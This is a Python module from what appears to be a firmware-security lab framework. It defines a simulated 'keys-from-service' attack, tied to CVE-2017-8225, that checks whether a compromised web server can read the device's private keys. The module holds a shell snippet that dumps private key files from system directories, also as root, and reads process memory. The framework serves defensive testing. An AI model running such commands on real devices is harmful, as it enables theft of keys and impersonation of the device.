"""A web server that was taken over, and reads keys that are root's."""

import re

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat, load_pem_private_key

from firmward.lab.attacks import Attack, Need, Position, Result
from firmward.lab.links import RUNNING
from firmward.lab.means.taken_service import as_root, taken
from firmward.lab.target import Target, Witness

KEY = re.compile(r"-----BEGIN (?:EC |RSA )?PRIVATE KEY-----[^-]*-----END (?:EC |RSA )?PRIVATE KEY-----\n")
LOOK = """\
for file in /data/private/* /data/mosquitto/*.key /etc/ssl/private/*; do cat "$file"; openssl pkey -in "$file"; done
dd if="/proc/$PPID/mem" bs=1k count=1
"""


def run(target: Target) -> Result:
    with taken(target) as service:
        said = service.run(LOOK) + service.run(as_root(LOOK))
        target.note(Witness.ATTACKER, "reads each file in which the server's key may lie, and the server's own memory")
        shown = service.web.public_key()
        if any(public_half(one) == shown for one in KEY.findall(said)):
            target.note(Witness.NETWORK, "he has the private key to the certificate that the device shows")
            return Result.SUCCEEDED
        return service.goes_on("none of what he reads is the key to the certificate that the device shows")


def public_half(key: str) -> bytes | None:
    try:
        found = load_pem_private_key(key.encode(), None).public_key()
    except (ValueError, TypeError):
        return None
    return found.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)


ATTACK = Attack(
    id="keys-from-service",
    title="A taken-over service reads the keys of others",
    does="runs code in the web server, and from there reads the device's private keys",
    position=Position.SERVICE,
    link=RUNNING,
    case="CVE-2017-8225: GoAhead in over 1200 models of cameras gave away the files with keys and passwords",
    foretold=("setuid-unexpected", "world-writable", "account-default-password"),
    run=run,
    needs=(Need.NETWORK, Need.SCRIPT),
)
